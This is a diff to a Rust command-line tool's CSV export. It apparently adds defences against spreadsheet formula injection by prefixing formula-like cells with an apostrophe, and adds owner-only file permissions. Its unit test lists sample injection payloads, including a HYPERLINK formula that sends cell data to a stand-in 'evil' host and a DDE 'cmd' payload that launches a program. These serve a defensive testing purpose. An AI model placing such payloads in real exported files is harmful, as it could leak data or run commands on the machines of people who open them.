@@ -13,7 +13,7 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::io::Write;
 
-use crate::bank::write::write_atomic;
+use crate::bank::write::{occupied, write_atomic, Access};
 use crate::bank::{Bank, Question};
 use crate::cli::{ExportArgs, ExportFormat};
 use crate::context::Context;
@@ -48,8 +48,12 @@ const CSV_COLUMNS: [&str; 15] = [
 ];
 
 pub fn run(ctx: &Context, args: &ExportArgs) -> Result<()> {
+    if args.allow_formulas && !matches!(args.format, ExportFormat::Csv) {
+        return Err(Error::input("--allow-formulas goes with --format csv")
+            .with_hint("grill export --format csv --allow-formulas"));
+    }
     if let Some(path) = &args.out {
-        if !args.force && path.exists() {
+        if !args.force && occupied(path) {
             return Err(Error::input(format!(
                 "`{}` already exists; not overwritten",
                 path.display()
@@ -69,8 +73,13 @@ pub fn run(ctx: &Context, args: &ExportArgs) -> Result<()> {
         }
         ExportFormat::Csv => {
             let (attempts, modes) = select_attempts(ctx, &args.topics)?;
+            let formulas = if args.allow_formulas {
+                Formulas::Keep
+            } else {
+                Formulas::Neutralise
+            };
             (
-                history_csv(&attempts, &modes)?,
+                history_csv(&attempts, &modes, formulas)?,
                 plural(attempts.len(), "answer", "answers"),
                 "",
             )
@@ -83,7 +92,7 @@ pub fn run(ctx: &Context, args: &ExportArgs) -> Result<()> {
             out.flush()?;
         }
         Some(path) => {
-            write_atomic(path, &text, args.force)?;
+            write_atomic(path, &text, args.force, Access::Owner)?;
             render::note(&format!("wrote {count} to `{}`{next}", path.display()));
         }
     }
@@ -242,10 +251,44 @@ fn key_points(a: &Attempt) -> String {
         .unwrap_or_default()
 }
 
+/// What the CSV does with a cell a spreadsheet would read as a formula.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Formulas {
+    /// Prefixed with `'`, which spreadsheets show as text (the default).
+    Neutralise,
+    /// Written as it is (`--allow-formulas`).
+    Keep,
+}
+
+/// Whether a spreadsheet could read a cell as a formula: it starts with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's CSV injection
+/// list), or a fullwidth `＝ ＋ － ＠`, which some locales' spreadsheets
+/// take for the same.
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with([
+        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+    ])
+}
+
+/// A cell as `formulas` says: one that starts like a formula gets a `'`
+/// first. The answers are often other people's text (`grade --batch` of a
+/// cohort), and the file is opened in a spreadsheet.
+fn cell(text: String, formulas: Formulas) -> String {
+    if formulas == Formulas::Neutralise && formula_like(&text) {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
 /// The history as CSV: a header row, then one row per attempt in the order
 /// given. `modes` names the kind of each session. Empty cells for what an
 /// attempt does not have (no session, no grade yet).
-pub fn history_csv(attempts: &[Attempt], modes: &BTreeMap<i64, SessionKind>) -> Result<String> {
+pub fn history_csv(
+    attempts: &[Attempt],
+    modes: &BTreeMap<i64, SessionKind>,
+    formulas: Formulas,
+) -> Result<String> {
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(CSV_COLUMNS).map_err(|e| export_error(&e))?;
     let num = |x: Option<f64>| x.map(|x| format!("{x:.1}")).unwrap_or_default();
@@ -259,7 +302,7 @@ pub fn history_csv(attempts: &[Attempt], modes: &BTreeMap<i64, SessionKind>) -> 
             .session_id
             .and_then(|id| modes.get(&id))
             .map_or("", |k| k.as_str());
-        w.write_record([
+        let row = [
             a.id.to_string(),
             clean(&a.created_at),
             a.session_id.map(|s| s.to_string()).unwrap_or_default(),
@@ -278,8 +321,9 @@ pub fn history_csv(attempts: &[Attempt], modes: &BTreeMap<i64, SessionKind>) -> 
             clean(&key_points(a)),
             mistakes,
             clean(&a.answer),
-        ])
-        .map_err(|e| export_error(&e))?;
+        ];
+        w.write_record(row.map(|c| cell(c, formulas)))
+            .map_err(|e| export_error(&e))?;
     }
     finish(w)
 }
@@ -399,6 +443,32 @@ mod tests {
     }
 
     #[test]
+    fn cells_that_start_like_a_formula_are_neutralised_unless_kept() {
+        let answers = [
+            "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+            "\t=1+1",
+            "\u{ff1d}1+1",
+        ];
+        let all: Vec<Attempt> = (0..).zip(answers).map(|(i, a)| attempt(i, a)).collect();
+        let modes = BTreeMap::new();
+        let rows = read_back(
+            &history_csv(&all, &modes, Formulas::Neutralise).unwrap(),
+            b',',
+        );
+        for (row, answer) in rows[1..].iter().zip(answers) {
+            assert_eq!(row[14], format!("'{answer}"));
+        }
+        let rows = read_back(&history_csv(&all, &modes, Formulas::Keep).unwrap(), b',');
+        for (row, answer) in rows[1..].iter().zip(answers) {
+            assert_eq!(row[14], answer);
+        }
+        assert_eq!(cell("a = b".into(), Formulas::Neutralise), "a = b");
+    }
+
+    #[test]
     fn a_history_row_carries_the_grade_and_each_point() {
         let point = |id: &str, coverage| PointVerdict {
             id: id.into(),
@@ -435,7 +505,7 @@ mod tests {
             ..Verdict::default()
         });
         let modes = BTreeMap::from([(3, SessionKind::Interview)]);
-        let text = history_csv(&[graded, attempt(8, "")], &modes).unwrap();
+        let text = history_csv(&[graded, attempt(8, "")], &modes, Formulas::Neutralise).unwrap();
         let rows = read_back(&text, b',');
         assert_eq!(rows[0], CSV_COLUMNS);
         assert_eq!(
